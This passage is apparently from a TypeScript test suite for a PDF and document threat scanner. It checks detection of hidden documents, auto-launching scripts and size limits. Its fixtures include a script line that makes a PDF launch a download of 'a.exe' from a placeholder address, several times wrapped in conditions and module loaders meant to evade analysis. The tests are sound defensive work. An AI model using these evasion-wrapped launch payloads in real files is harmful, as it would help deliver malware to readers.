      ['MarkupText'],
    ],
  ]
  for (const [name, bytes, expected] of cases) test(name, () => assert.deepEqual(found(bytes), expected))
  test('a web archive', () => {
    const archive =
      'MIME-Version: 1.0\nContent-Type: multipart/related; boundary="a"\n\n--a\nContent-Type: text/html\n\n<p>\n--a--\n'
    assert.deepEqual(threats(Buffer.concat([plain, Buffer.from(archive)])), ['SecondDocument'])
    const office = archive.replace('<p>', '<link rel=Edit-Time-Data href="editdata.mso">')
    assert.deepEqual(threats(Buffer.concat([plain, Buffer.from(office)])), ['HiddenDocument!'])
  })
})

suite('a condition that may be computed wrongly hides nothing', () => {
  const launch = 'app.launchURL("http://192.0.2.1/a.exe")'
  const conditions = {
    'what an object lacks': `if(!{}.x){${launch}}`,
    'arguments that are written': `function g(a){arguments[0]=5;return a}if(g(1)==5){${launch}}`,
    'escaped characters': `if(escape(" ")=="%20"){${launch}}`,
    'an object with a value': `if({valueOf:function(){return 3}}==3){${launch}}`,
    'a long list': `var l=[];for(var i=0;i<5e5;i++)l.push(1);if(l.length==5e5){${launch}}`,
    'a date': `if(new Date(0).getTime()==0){${launch}}`,
    'one that is never true': `if(1==2){${launch}}`,
    'modules that call each other': `(function(m){var c={};function r(i){if(c[i])return c[i].exports;var e=c[i]={exports:{}};m[i].call(e.exports,e,e.exports,r);return e.exports}return r(0)})([function(m,e,r){r(1).go()},function(m,e,r){e.go=function(){${launch}}}])`,
  }
  for (const [name, source] of Object.entries(conditions))
    test(name, () => assert.deepEqual(threats(script(source)), ['AutomaticProgram!']))
  test('a function that nothing calls does not count', () =>
    assert.deepEqual(threats(script(`function g(){${launch}}`)), []))
})

suite('a value that was not followed to its end', () => {
  /** An animation, as packages for slides write it: each step may start the next. */
  const animation = (use: string): string => `var id; var n; var at; var isRight; var go, back, stop, seek, isPlaying;
    var frames = new Array(); for (var i = 0; i <= 99; i++) { frames[i] = this.getField('0.' + i).buttonGetIcon() }
    seek = function(f) { if (f > 99 || f < 0) { return -1 } n = f; at = frames[f]; this.getField('a').buttonSetIcon(at); return 0 };
    stop = function() { try { app.clearInterval(id) } catch (e) {} isPlaying = false };
    go = function() { var t; try { t = app.setInterval('if (seek(n + 1) < 0) { back() }', 50) } catch (e) {} stop(); id = t; isPlaying = true };
    back = function() { var t; try { t = app.setInterval('if (seek(n - 1) < 0) { go() }', 50) } catch (e) {} stop(); id = t; isPlaying = true };
    seek(0); ${use}`
  /** Past every limit of a loop. */
  const cut = "var s = ''; for (var i = 0; i < 1e9; i++) { s += String.fromCharCode(i ^ 7) }"
  test('is no obstacle where it can do nothing', () => {
    assert.equal(inspector.inspect(script(animation(''))).obstacle, null)
    for (const use of ['app.clearInterval(s)', 'app.clearTimeOut(s)', 'this.getField(s)'])
      assert.equal(inspector.inspect(script(`${cut} ${use}`)).obstacle, null, use)
  })
  test('is one where it may be an address or a script', () => {
    for (const use of [
      'app.launchURL(s)',
      'this.submitForm(s)',
      'eval(s)',
      'app.setInterval(s, 9)',
      'app.setTimeOut(s, 9)',
    ])
      for (const source of [`${cut} ${use}`, animation(`${cut} ${use}`)]) {
        const { findings, obstacle } = inspector.inspect(script(source))
        const isSeen = obstacle !== null || findings.some(({ severity }) => severity === 'malicious')
        assert.ok(isSeen, source)
      }
  })
})

suite('at the limit and one past it', () => {
  const isWhole = (bytes: Uint8Array): boolean => inspector.inspect(bytes).obstacle === null
  test('actions', () => {
    const of = (count: number) => pdf([catalog(''), `[${'<</URI()>>'.repeat(count)}]`])
    assert.equal(isWhole(of(ACTIONS_MAX)), true)
    assert.equal(isWhole(of(ACTIONS_MAX + 1)), false)
  })
  test('references', () => {
    const of = (count: number) =>
      pdf([
        catalog(''),
        `<< /Names [${'2 0 R '.repeat(count)}] /JavaScript << /Names [${'9 0 R '.repeat(count)}] >> >>`,
      ])
    assert.equal(isWhole(of(REFERENCES_MAX / 4)), true)
    assert.equal(isWhole(of(REFERENCES_MAX)), false)
  })
  test('scripts', () => {
    const of = (count: number) =>
      pdf([catalog(''), `[${Array.from({ length: count }, (_, i) => `<</JS(a${i})>>`).join('')}]`])
    assert.equal(isWhole(of(SCRIPTS_MAX)), true)
    assert.equal(isWhole(of(SCRIPTS_MAX + 1)), false)
  })
  test('elements and characters of a form', () => {
    const form = (xml: string) => pdf([catalog('/AcroForm << /XFA 2 0 R >>'), stream('', xml)])
    assert.equal(isWhole(form('<uri>'.repeat(ELEMENTS_MAX))), true)
    assert.equal(isWhole(form('<uri>'.repeat(ELEMENTS_MAX + 1))), false)
    const parts = (length: number) =>
      pdf([
        catalog('/AcroForm << /XFA [2 0 R 3 0 R 4 0 R] >>'),
        ...[FORM_MAX / 2, FORM_MAX / 2, length].map((each) => stream('', ' '.repeat(each))),
      ])
    assert.equal(isWhole(parts(0)), true)
    assert.equal(isWhole(parts(1)), false)
  })
})
